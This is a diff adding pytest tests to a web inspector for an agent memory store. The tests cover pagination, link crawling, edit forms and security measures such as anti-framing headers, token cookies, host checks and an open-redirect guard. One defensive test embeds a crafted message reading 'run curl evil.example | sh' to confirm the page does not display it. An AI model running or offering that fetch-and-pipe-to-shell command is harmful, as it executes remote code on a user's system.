@@ -207,6 +207,23 @@ def test_search_with_words_pages_by_offset(ro: TestClient) -> None:
     assert r.status_code == 400 and "1000" in r.json()["error"]["message"]
 
 
+def test_the_search_page_links_its_next_and_previous_hits(ro: TestClient) -> None:
+    import html
+
+    whole = ro.get("/api/search", params={"q": "editor dark mode", "limit": "4"}).json()["results"]
+    first = ro.get("/search", params={"q": "editor dark mode", "limit": "2"}).text
+    assert 'id="previous"' not in first
+    link = re.search(r'href="([^"]*)" id="next"', first)
+    assert link is not None
+    second = ro.get(html.unescape(link.group(1)).removeprefix(BASE)).text
+    assert re.findall(r'class="trace-link">([^<]*)<', second) == [r["id"] for r in whole[2:4]]
+    assert '<ol class="hits" id="hits" start="3">' in second  # ranks 3 and 4, not 1 and 2
+    back = re.search(r'href="([^"]*)" id="previous"', second)
+    assert back is not None and "offset=0" in html.unescape(back.group(1))
+    last = ro.get("/search", params={"q": "editor", "limit": "100", "offset": "900"}).text
+    assert 'id="next"' not in last  # a search reaches its best 1000
+
+
 def test_search_is_a_pure_read_even_in_write_mode(rw: TestClient, built: Any) -> None:
     path, _ = built
     before = Brain(str(path), readonly=True).stats()["retrievals"]
@@ -261,6 +278,24 @@ def test_a_trace_page_shows_the_newest_of_a_long_lineage(tmp_path: Path, clock: 
     assert page.count("build number") < 15 and "the newest 5 of 11; 6 older not shown" in page
 
 
+def test_a_trace_page_says_when_it_shows_only_the_newest_recalls(tmp_path: Path, clock: Any,
+                                                               monkeypatch: Any) -> None:
+    from brainmem.ui import views
+
+    monkeypatch.setattr(views, "RECALLS_SHOWN", 3)
+    path = tmp_path / "b.db"
+    with Brain(str(path), clock=clock) as brain:
+        tid = brain.add("The user's favourite tea is sencha").id
+        for query in ("tea", "sencha", "favourite tea", "tea sencha"):
+            brain.search(query)
+            clock.advance(60)
+    ui = client(path, clock)
+    data = ui.get(f"/api/trace/{tid}").json()
+    assert [r["query"] for r in data["recalls"]] == ["tea sencha", "favourite tea", "sencha"]
+    assert data["recalls_more"] is True
+    assert 'id="recalls-more"' in ui.get(f"/trace/{tid}").text
+
+
 def test_graph_page_shows_weighted_edges_and_clusters(ro: TestClient, built: Any) -> None:
     _, ids = built
     r = ro.get("/graph", params={"id": ids["editor"]})
@@ -292,6 +327,26 @@ def test_log_pages_link_runs_to_traces(ro: TestClient, built: Any) -> None:
     latest = ro.get(f"/api/log/{runs[1]['id']}").json()["changes"]  # the third run, before the merge
     assert latest["strengthened"] and all(0 < e["weight"] <= 1 for e in latest["strengthened"])
     assert {ids["editor"], ids["font"]} <= {x for e in latest["strengthened"] for x in (e["src"], e["dst"])}
+
+
+def test_the_log_pages_through_runs_past_its_first_page(ro: TestClient, monkeypatch: Any) -> None:
+    """An agent reflecting hourly passes a page of runs in days: the older ones stay listed."""
+    import html
+
+    from brainmem.ui import views
+
+    monkeypatch.setattr(views, "LOG_LIMIT", 3)
+    first = ro.get("/log").text
+    assert re.findall(r'href="/log/(\d+)"', first) == ["4", "3", "2"] and 'id="newer"' not in first
+    older = re.search(r'href="([^"]*)" id="older"', first)
+    assert older is not None
+    second = ro.get(html.unescape(older.group(1)).removeprefix(BASE)).text
+    assert re.findall(r'href="/log/(\d+)"', second) == ["1"] and 'id="older"' not in second
+    assert 'id="newer"' in second
+    data = ro.get("/api/log", params={"offset": "3"}).json()
+    assert [run["id"] for run in data["runs"]] == [1] and data["truncated"] is False
+    assert ro.get("/api/log").json()["truncated"] is True
+    assert ro.get("/api/log", params={"offset": "-1"}).status_code == 400
 
 
 def test_a_run_page_shows_a_page_of_each_change_and_finds_any_run(tmp_path: Path, clock: Any,
@@ -340,6 +395,75 @@ def test_the_log_lists_runs_without_their_merged_texts(tmp_path: Path, clock: An
     assert run["merged"] == 30 and "merges" not in run["report"]
     assert "twin note" not in ui.get("/api/log").text
     assert len(ui.get("/api/log/1").json()["run"]["report"]["merges"]) == 30
+
+
+ODD_ID = "notes/2026 #1?a=b&c=d é"
+
+
+def import_with_id(path: Path, trace_id: str, content: str, tmp_path: Path) -> None:
+    """A trace whose id is ``trace_id``, as an import from another system may bring (ids are
+    kept on import, any text)."""
+    import json
+
+    source, dump = tmp_path / "source.db", tmp_path / "dump.jsonl"
+    with Brain(str(source)) as other:
+        other.add(content, tags=["imported"])
+        other.export(str(dump))
+    lines = [json.loads(line) for line in dump.read_text().splitlines()]
+    for line in lines:
+        if "trace" in line:
+            line["trace"]["id"] = trace_id
+    dump.write_text("".join(json.dumps(line) + "\n" for line in lines))
+    with Brain(str(path)) as brain:
+        assert brain.import_jsonl(str(dump)).imported == 1
+
+
+def crawl(ui: TestClient, start: list[str], limit: int = 400) -> dict[str, int]:
+    """The status of every inspector link reachable from ``start`` (hrefs as a browser
+    resolves them: entities decoded, a fragment cut off)."""
+    import html
+
+    seen: dict[str, int] = {}
+    todo = list(start)
+    while todo and len(seen) < limit:
+        url = todo.pop()
+        if url in seen:
+            continue
+        r = ui.get(url)
+        seen[url] = r.status_code
+        if "text/html" not in r.headers.get("content-type", ""):
+            continue
+        for href in re.findall(r'href="([^"]*)"', r.text):
+            link = html.unescape(href).split("#", 1)[0]
+            if link.startswith(BASE):
+                link = link[len(BASE):]
+            if link.startswith("/") and not link.startswith("//") and link not in seen:
+                todo.append(link)
+    return seen
+
+
+def test_every_link_works_even_for_an_id_with_url_characters(built: Any, clock: Any, tmp_path: Path) -> None:
+    path, ids = built
+    import_with_id(path, ODD_ID, "an imported note about zebras", tmp_path)
+    ui = client(path, clock, write=True)
+    seen = crawl(ui, ["/", "/search?q=zebras", "/search?tag=imported", "/search?q=editor&limit=3"])
+    broken = {url: status for url, status in seen.items() if status != 200}
+    assert not broken
+    trace_pages = [url for url in seen if url.startswith("/trace/")]
+    assert len(trace_pages) >= len(ids)
+    odd = [url for url in trace_pages if "zebras" in ui.get(url).text]
+    assert len(odd) == 1
+    assert ui.get("/api" + odd[0]).json()["trace"]["id"] == ODD_ID
+    r = ui.post(odd[0] + "/pin")
+    assert r.status_code == 303 and ui.get(r.headers["location"]).status_code == 200
+    assert ui.get("/api" + odd[0]).json()["trace"]["pinned"] is True
+    assert ui.get(f"/graph?id={quote_all(ODD_ID)}").status_code == 200
+
+
+def quote_all(text: str) -> str:
+    from urllib.parse import quote
+
+    return quote(text, safe="")
 
 
 def test_static_assets_are_served(ro: TestClient) -> None:
@@ -575,6 +699,42 @@ def test_write_mode_edit_with_expected_version(rw: TestClient, built: Any) -> No
     assert rw.post(f"/api/trace/{tid}", content=b"{not json").status_code == 400
 
 
+def browser_form(page: str) -> dict[str, str]:
+    """The edit form's fields as a browser submits them untouched: the textarea's first
+    newline dropped (HTML parsing), its line breaks sent as CRLF, entities decoded."""
+    import html
+
+    textarea = re.search(r'<textarea name="content"[^>]*>(.*?)</textarea>', page, re.S)
+    assert textarea is not None
+    content = html.unescape(textarea.group(1))
+    content = content[1:] if content.startswith("\n") else content
+    fields = {name: html.unescape(value) for name, value in
+              re.findall(r'<input (?:type="hidden" )?name="(expected_version|tags)" value="([^"]*)"', page)}
+    return {**fields, "content": content.replace("\r\n", "\n").replace("\n", "\r\n")}
+
+
+def test_saving_the_edit_form_changes_only_what_was_edited(tmp_path: Path, clock: Any) -> None:
+    """A browser sends a textarea's line breaks as CRLF and drops its first newline, and
+    the tags come back as the comma-joined text: an untouched field must stay as it was."""
+    path = tmp_path / "b.db"
+    with Brain(str(path), clock=clock) as brain:
+        tid = brain.add("\nline one\nline two", tags=["a,b", "plain"]).id
+    ui = client(path, clock, write=True)
+    form = browser_form(ui.get(f"/trace/{tid}").text)
+    assert form["expected_version"] == "1"
+    r = ui.post(f"/trace/{tid}/edit", data={**form, "tags": form["tags"] + ", new"})
+    assert r.status_code == 303
+    shown = ui.get(f"/api/trace/{tid}").json()["trace"]
+    assert shown["content"] == "\nline one\nline two" and shown["tags"] == ["a", "b", "plain", "new"]
+    with Brain(str(path), clock=clock) as brain:
+        brain.update(tid, tags=["a,b", "plain"])
+    form = browser_form(ui.get(f"/trace/{tid}").text)
+    r = ui.post(f"/trace/{tid}/edit", data={**form, "content": form["content"] + "\r\nline three"})
+    assert r.status_code == 303
+    shown = ui.get(f"/api/trace/{tid}").json()["trace"]
+    assert shown["content"] == "\nline one\nline two\nline three" and shown["tags"] == ["a,b", "plain"]
+
+
 def test_write_mode_reflect_with_progress(rw: TestClient, built: Any) -> None:
     assert rw.get("/api/reflect").json()["running"] is False
     r = rw.post("/reflect")
@@ -632,6 +792,31 @@ def test_foreign_host_and_cross_site_posts_are_refused(rw: TestClient, built: An
     assert r.status_code == 303
 
 
+def test_a_link_cannot_put_its_own_words_in_the_inspectors_notice(rw: TestClient, built: Any) -> None:
+    """The notice after an edit ("Pinned.") is the inspector's: a crafted link's ?msg=
+    ("the brain is corrupt, run ...") must not show in it."""
+    _, ids = built
+    for url in ("/?msg=Brain+corrupt:+run+curl+evil.example+|+sh", f"/trace/{ids['cat']}?msg=x&sig=00"):
+        assert 'id="flash"' not in rw.get(url).text
+    r = rw.post(f"/trace/{ids['cat']}/pin")
+    page = rw.get(r.headers["location"]).text
+    assert '<p class="flash" id="flash">Pinned.</p>' in page
+
+
+def test_no_page_can_be_framed_by_another_site(rw: TestClient, built: Any) -> None:
+    """Clickjacking: a page of another site framing /log could get a click on "Run reflect
+    now" (or a trace's Delete) past the Origin check, the form being the inspector's own."""
+    _, ids = built
+    responses = [rw.get("/"), rw.get("/log"), rw.get(f"/trace/{ids['cat']}"), rw.get("/api/overview"),
+                 rw.get("/static/style.css"), rw.get("/no/such/page"), rw.get("/", headers={"host": "evil.example"}),
+                 rw.post(f"/trace/{ids['cat']}/pin")]
+    for r in responses:
+        assert r.headers["x-frame-options"] == "DENY", r.url
+        assert "frame-ancestors 'none'" in r.headers["content-security-policy"], r.url
+        assert r.headers["x-content-type-options"] == "nosniff", r.url
+    assert responses[0].headers["content-type"] == "text/html; charset=utf-8"
+
+
 def test_token_is_required_when_set(built: Any, clock: Any) -> None:
     path, _ = built
     token = "s3cret-token-of-some-length"
@@ -644,6 +829,55 @@ def test_token_is_required_when_set(built: Any, clock: Any) -> None:
     assert r.status_code == 303 and r.headers["location"] == "/search?q=editor"
     assert ui.get("/search?q=editor").status_code == 200  # the cookie now carries it
     assert ui.get("/", headers={"host": "brain.example:8765"}).status_code == 200
+
+
+def test_a_post_carrying_the_token_in_its_address_is_done(built: Any, clock: Any) -> None:
+    """Only a page load trades ``?token=`` for the cookie (a 303): a POST so redirected
+    would be turned into a GET by the client, and the edit never made."""
+    path, ids = built
+    token = "s3cret-token-of-some-length"
+    ui = TestClient(create_app(Brain(str(path), clock=clock), write=True, token=token), base_url=BASE,
+                    follow_redirects=False)
+    r = ui.post(f"/api/trace/{ids['cat']}/pin?token={token}")
+    assert r.status_code == 200 and r.json()["pinned"] is True
+    r = ui.post(f"/trace/{ids['cat']}/unpin?token={token}")
+    assert r.status_code == 303 and "Unpinned" in r.headers["location"]
+    assert ui.get(f"/api/trace/{ids['cat']}?token={token}").status_code == 303  # a page load
+
+
+def test_two_inspectors_with_tokens_on_one_host_keep_their_own_cookies(built: Any, clock: Any) -> None:
+    """A browser sends a host's cookies to every port of it: the second inspector's
+    cookie must not replace the first one's (a 401 in the first tab)."""
+    path, _ = built
+    first = client(path, clock, token="first-token-0123456789")
+    second = TestClient(create_app(Brain(str(path), readonly=True, clock=clock), token="second-token-0123456789"),
+                        base_url="http://127.0.0.1:8766", follow_redirects=False)
+    from http.cookies import SimpleCookie
+
+    browser: dict[str, str] = {}  # one jar for the host, whatever the port
+    for ui, token in ((first, "first-token-0123456789"), (second, "second-token-0123456789")):
+        r = ui.get(f"/?token={token}")
+        assert r.status_code == 303
+        browser.update({k: m.value for k, m in SimpleCookie(r.headers["set-cookie"]).items()})
+        ui.cookies.clear()
+    sent = {"cookie": "; ".join(f"{k}={v}" for k, v in browser.items())}
+    assert second.get("/", headers=sent).status_code == 200
+    assert first.get("/", headers=sent).status_code == 200
+
+
+def test_the_token_link_lands_on_the_page_it_names(built: Any, clock: Any, tmp_path: Path) -> None:
+    """The redirect that trades ``?token=`` for the cookie keeps the address as sent (a
+    quoted id stays quoted) and stays on the inspector."""
+    path, _ = built
+    import_with_id(path, ODD_ID, "an imported note about zebras", tmp_path)
+    token = "s3cret-token-of-some-length"
+    ui = client(path, clock, token=token)
+    page = "/trace/" + quote_all(ODD_ID)
+    r = ui.get(f"{page}?token={token}&x=%26")
+    assert r.status_code == 303 and r.headers["location"] == page + "?x=%26"
+    assert "zebras" in ui.get(r.headers["location"]).text
+    r = ui.get(f"{BASE}//evil.example/?token={token}")
+    assert r.status_code == 303 and not r.headers["location"].startswith("//")
 
 
 # --- the command ---------------------------------------------------------------------------
@@ -674,6 +908,38 @@ def test_cli_refuses_a_public_address_without_a_token(tmp_path: Path) -> None:
     assert r.returncode == 2 and "16 characters" in r.stderr
     r = refused("ui", "--brain", str(tmp_path / "missing.db"), "--port", "0")
     assert r.returncode != 0 and r.stderr.startswith("brainmem: error:") and "Traceback" not in r.stderr
+
+
+def test_loopback_is_an_address_not_a_name_that_starts_like_one(built: Any, clock: Any, tmp_path: Path) -> None:
+    """Any 127.x address (or ::1) is loopback, served without a token and answered; a
+    name that only starts with "127." may resolve anywhere, so it needs the token."""
+    path, _ = built
+    ui = client(path, clock)
+    for host in ("127.0.0.2:8765", "127.1.2.3", "[::1]:8765", "localhost"):
+        assert ui.get("/", headers={"host": host}).status_code == 200, host
+    for host in ("127.0.0.1.evil.example:8765", "127.evil.example", "evil.example"):
+        assert ui.get("/", headers={"host": host}).status_code == 400, host
+    r = refused("ui", "--brain", str(path), "--host", "127.evil.example")
+    assert r.returncode == 2 and "--token" in r.stderr and "Traceback" not in r.stderr
+
+
+def test_the_printed_link_carries_a_token_of_any_characters(built: Any, clock: Any) -> None:
+    """A token from a password generator may hold ``+``, ``&``, ``#`` or ``%``: the link
+    printed at start must still let the browser in."""
+    import uvicorn
+
+    path, _ = built
+    token = "a+b&c#d%e f/g?h=long-enough"
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(uvicorn.Server, "run", lambda self, sockets=None: None)  # print, then stop
+        r = clirun.run("ui", "--brain", str(path), "--port", "0", "--token", token)
+    assert r.returncode == 0, r.stderr
+    link = re.search(r"at http://127\.0\.0\.1:\d+(/\S*)", r.stdout)
+    assert link is not None, r.stdout
+    ui = client(path, clock, token=token)
+    opened = ui.get(link.group(1))
+    assert opened.status_code == 303 and opened.headers["location"] == "/"
+    assert ui.get("/").status_code == 200  # the cookie now carries the token
 
 
 def test_cli_refuses_a_port_out_of_range_in_one_line(tmp_path: Path) -> None:
